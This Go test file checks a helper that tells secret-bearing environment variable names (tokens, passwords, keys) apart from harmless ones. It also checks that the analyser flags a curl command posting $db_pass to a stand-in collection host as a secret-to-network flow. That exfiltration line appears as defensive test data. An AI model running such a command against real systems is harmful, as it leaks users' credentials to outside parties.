package effect

import "testing"

func TestSecretName(t *testing.T) {
	for name, want := range map[string]bool{
		"GITHUB_TOKEN": true, "github_token": true, "DB_PASS": true, "MYSQL_PWD": true,
		"OPENAI_KEY": true, "PASSPHRASE": true, "PGPASS": true, "STRIPE_SK": true, "SENTRY_DSN": true, "SLACK_WEBHOOK": true,
		"PWD": false, "OLDPWD": false, "GPG_KEY_FILE": false, "GPG_KEY_ID": false,
		"HOME": false, "VERSION": false, "KEYBOARD": false, "SKIP_TESTS": false,
	} {
		if got := secretName(name); got != want {
			t.Errorf("secretName(%q) = %v, want %v", name, got, want)
		}
	}
	// A secret named in any case is sent out.
	if !hasEffect(effectsOf(`curl -d "$db_pass" https://collect.example.net/`), "flow:secret-variable->network") {
		t.Errorf("no flow for $db_pass: %v", effectsOf(`curl -d "$db_pass" https://collect.example.net/`))
	}
}
